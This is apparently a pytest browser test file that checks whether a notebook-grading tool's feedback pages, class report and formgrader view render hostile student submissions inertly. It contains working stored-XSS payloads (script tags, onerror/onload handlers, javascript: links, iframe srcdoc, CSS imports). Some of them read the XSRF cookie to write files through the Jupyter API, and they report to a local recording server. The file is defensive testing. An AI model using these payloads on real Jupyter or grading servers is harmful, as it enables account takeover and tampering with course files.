"""Nothing a student wrote runs or loads anything in the pages that show their work: ``course
feedback``, ``course report`` and formgrader's view of the autograded notebook, opened in chromium.

Every payload runs the same script when it fires: it marks ``window.__pwned``, asks a recording
HTTP server on 127.0.0.1 for a page, and (in formgrader) writes a file into the course through the
Jupyter REST API, as a red-team student did. Payloads come as HTML, JavaScript, SVG, Markdown,
image and widget outputs, raw HTML in Markdown and raw cells, a ``javascript:`` link, an exception
message the verdict quotes, an invalid notebook whose error message quotes it, and a student id.
Each page is compared with the same page for an honest student: it may request nothing more.
"""
import http.server
import json
import shutil
import threading

import nbformat
import pytest

from grader import demo, gradebook
from grader.autograde import autograde, notebook_id, results_dir
from grader.commands.feedback import write_feedback
from grader.report import write_report
from grader.sandbox import sandbox_problem
from grader.contract import load_assignment

pytestmark = pytest.mark.browser

AID = "ex01_class_weights"
HONEST, HOSTILE, BROKEN = "alice_correct", "mallory_pages", "trudy_broken"
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAFklEQVR42mP8z8AARMQBxlGF+RUCADsmB/mRvzUhAAA"
       "AAElFTkSuQmCC")  # an 8x8 image


class Recorder(http.server.ThreadingHTTPServer):
    """Records every request a page sends to it (the payloads' "attacker")."""

    def __init__(self):
        self.hits = []
        recorder = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _any(self):
                recorder.hits.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_GET = do_POST = do_PUT = do_OPTIONS = _any

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


def script(name: str, recorder: str, api: bool = True) -> str:
    """What a payload runs: no spaces or double quotes, so it fits in attributes and URLs."""
    js = (f"(top.__pwned=top.__pwned||[]).push('{name}');"
          f"fetch('{recorder}/pwned/{name}').catch(function(){{}});")
    if api:  # the red-team's write into the course folder through the instructor's Jupyter
        js += ("fetch('/lab').then(function(){return(fetch("  # /lab sets the XSRF cookie
               f"'/api/contents/pwned-{name}.txt',{{method:'PUT',headers:{{'Content-Type':"
               f"'application/json','X-XSRFToken':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]}},"
               "body:JSON.stringify({type:'file',format:'text',content:'x'})}))}).catch(function(){});")
    return js + "void(0)"


def img_onerror(name: str, recorder: str, api: bool = True) -> str:
    return f'<img src=x onerror="{script(name, recorder, api)}">'


def payloads(rec: str) -> dict:
    """Student HTML of each shape, by name."""
    return {
        "script": f"<script>{script('script', rec)}</script>",
        "img-onerror": img_onerror("img-onerror", rec),
        "svg-onload": f'<svg onload="{script("svg-onload", rec)}"><circle r=4 /></svg>',
        "js-link": f'<a href="javascript:{script("js-link", rec)}">pwn-link</a>',
        "iframe-srcdoc": f'<iframe srcdoc="<script>{script("iframe-srcdoc", rec)}</script>"></iframe>',
        "details-ontoggle": (f'<details open ontoggle="{script("details-ontoggle", rec)}">'
                             "<summary>s</summary></details>"),
        "remote-img": f'<img src="{rec}/pwned/remote-img.png">',
        "css-url": f'<div style="background-image:url({rec}/pwned/css-url)">styled</div>',
        "style-import": f'<style>@import url("{rec}/pwned/style-import.css");</style>',
    }


def hostile_notebook(released, rec: str):
    """Alice's right answers, except that the function raises an HTML message on 3+ classes, and
    after them: outputs of every kind, student Markdown and a raw cell carrying the payloads."""
    p = payloads(rec)
    fn = ("def inverse_frequency_weights(counts):\n"
          "    if len(counts) > 2:\n"
          f"        raise ValueError({img_onerror('probe', rec, api=False)!r})\n"
          "    total = sum(counts.values())\n"
          "    return {c: total / (len(counts) * n_c) for c, n_c in counts.items()}")
    answers = dict(demo.SAMPLES[AID][HONEST], a1_inverse_frequency_weights=fn)
    nb = demo.sample_notebook(released, answers)
    bundles = [{"text/html": f"<p>html-{name}</p>{html}"} for name, html in p.items()]
    bundles += [
        {"application/javascript": script("application-javascript", rec)},
        {"image/svg+xml": (f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script("svg-image", rec)}'
                           "</script></svg>")},
        {"text/markdown": f"markdown output {img_onerror('md-output', rec)}"},
        {"image/png": f'{PNG}" onerror="{script("png-attribute", rec)}', "text/plain": "bad png"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2,
                                                      "version_minor": 0}, "text/plain": "a widget"},
        {"image/png": PNG, "text/plain": "<student figure>"},
    ]
    code = ("import pandas as pd\nfrom IPython.display import display\n"
            f"for bundle in {bundles!r}:\n    display(bundle, raw=True)\n"
            "display(pd.DataFrame({'label': ['rare-class', 'common'], 'count': [3, 97]}))\n"
            f"print({p['script']!r})")
    markdown = ("Mallory's own notes, with *emphasis*.\n\n" + "\n\n".join(p.values())
                + f"\n\n[pwn-link](javascript:{script('md-link', rec)})"
                + "\n\n![diagram](attachment:diagram.png)")  # (missing: nbconvert used to raise)
    nb.cells += [nbformat.v4.new_code_cell(code), nbformat.v4.new_markdown_cell(markdown),
                 nbformat.v4.new_raw_cell(f"<script>{script('raw-cell', rec)}</script>"),
                 nbformat.v4.new_code_cell(f"raise ValueError({p['svg-onload']!r})")]
    return nb


@pytest.fixture(scope="module")
def recorder():
    server = Recorder()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory, recorder):
    """A demo course where an honest and two hostile students are autograded, with feedback
    pages and the class report written; returns the course directory."""
    course = demo.prepare_course(tmp_path_factory.mktemp("pages") / "course", [AID])
    nb_id = notebook_id(load_assignment(AID))
    released = nbformat.read(course / "exercises" / AID / f"{nb_id}.ipynb", as_version=4)
    root = course / "submitted"
    for sid, nb in {HONEST: demo.sample_notebook(released, demo.SAMPLES[AID][HONEST]),
                    HOSTILE: hostile_notebook(released, recorder.url)}.items():
        (root / sid / AID).mkdir(parents=True)
        nbformat.write(nb, root / sid / AID / f"{nb_id}.ipynb")
    # An invalid notebook: its error message quotes the offending cell id.
    broken = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("x")])
    broken.cells[0]["id"] = img_onerror("cell-id", recorder.url, api=False)
    (root / BROKEN / AID).mkdir(parents=True)
    (root / BROKEN / AID / f"{nb_id}.ipynb").write_text(json.dumps(broken))
    # The payloads only display things: safe to run without the sandbox where it cannot run.
    records = autograde(AID, root, course_dir=course, workers=2, progress=False,
                        unsafe_no_sandbox=sandbox_problem() is not None)
    assert records[BROKEN]["status"] == "error" and "cell-id" in records[BROKEN]["error"]
    assert "probe" in " ".join(records[HOSTILE]["questions"]["q1_inverse_frequency_weights"]["feedback"])
    write_feedback(AID, course)
    return course


def visit(page, url: str, recorder: Recorder) -> dict:
    """Open ``url``, follow every link named pwn-link, wait for late payloads; what happened."""
    recorder.hits.clear()
    requests = []
    page.on("request", lambda r: requests.append(r.url))
    page.goto(url)
    page.wait_for_load_state("load")
    page.evaluate("document.querySelectorAll('a')"
                  ".forEach(a => a.textContent.includes('pwn-link') && a.click())")
    page.wait_for_timeout(1500)
    return {"pwned": page.evaluate("top.__pwned || null"), "requests": requests,
            "hits": list(recorder.hits), "text": page.inner_text("body")}


def assert_inert(seen: dict, honest: dict, own: tuple):
    """No payload ran, nothing reached the recorder, and the page asked nothing of anyone but
    itself (``own`` prefixes) beyond what the honest student's page asks."""
    assert seen["pwned"] is None, f"payloads ran: {seen['pwned']}"
    assert seen["hits"] == [], f"requests reached the recorder: {seen['hits']}"
    assert not [u for u in seen["requests"] if "pwned" in u]

    def outside(requests):
        return {u for u in requests if not u.startswith(("data:", *own))}

    assert outside(seen["requests"]) <= outside(honest["requests"])


def _feedback_page(course, sid):
    return (course / "feedback" / sid / AID / f"{notebook_id(load_assignment(AID))}.html").as_uri()


def test_feedback_pages_run_nothing_a_student_wrote(hostile_class, recorder, page, snap):
    honest = visit(page, _feedback_page(hostile_class, HONEST), recorder)
    hostile = visit(page, _feedback_page(hostile_class, HOSTILE), recorder)
    snap("feedback_hostile_student")
    assert_inert(hostile, honest, own=("file:",))
    # ... and still shows their work: text, the table, the figure, the quoted exception as text.
    assert "Mallory's own notes, with emphasis." in hostile["text"]
    assert page.locator("table.dataframe td", has_text="rare-class").count() == 1
    assert page.locator("img[src^='data:image/png']").evaluate_all(
        "imgs => imgs.filter(i => i.naturalWidth === 8).length") == 1
    assert "failed: ValueError: <img src=x onerror=" in hostile["text"]
    broken = visit(page, _feedback_page(hostile_class, BROKEN), recorder)
    assert_inert(broken, honest, own=("file:",))
    assert "is not a valid notebook: '<img src=x onerror=" in broken["text"]


def test_class_report_runs_nothing_a_student_wrote(hostile_class, recorder, page, tmp_path):
    course = tmp_path / "course"
    shutil.copytree(hostile_class, course)
    # A student id from the gradebook's roster is not ours to choose (nbgrader imports them).
    sid = img_onerror("student-id", recorder.url, api=False)
    record = json.loads((results_dir(course, AID) / f"{HONEST}.json").read_text())
    with gradebook.Gradebook(gradebook.db_url_for(course)) as gb:
        gradebook.record_result(gb, AID, sid, record)
    report = write_report(AID, course)
    seen = visit(page, report.as_uri(), recorder)
    assert_inert(seen, {"requests": []}, own=("file:",))
    assert "<img src=x onerror=" in seen["text"] and "cell-id" in seen["text"]


def test_formgrader_runs_nothing_a_student_wrote(hostile_class, recorder, lab_at, page, snap):
    lab = lab_at(hostile_class)
    nb_id = notebook_id(load_assignment(AID))
    with gradebook.Gradebook(gradebook.db_url_for(hostile_class)) as gb:
        ids = {sid: gb.find_submission_notebook(nb_id, AID, sid).id for sid in (HONEST, HOSTILE)}
    page.goto(lab.url("api/status"))  # logged in, as the instructor is (a session cookie)
    honest = visit(page, lab.url(f"formgrader/submissions/{ids[HONEST]}/"), recorder)
    hostile = visit(page, lab.url(f"formgrader/submissions/{ids[HOSTILE]}/"), recorder)
    snap("formgrader_hostile_student")
    assert "Mallory's own notes" in hostile["text"]  # the submission view did render
    assert sorted(p.name for p in hostile_class.glob("pwned-*")) == [], "payloads wrote files"
    assert_inert(hostile, honest, own=(lab.base,))
    assert page.locator("table.dataframe td", has_text="rare-class").count() == 1
    assert "failed: ValueError: <img src=x onerror=" in hostile["text"]
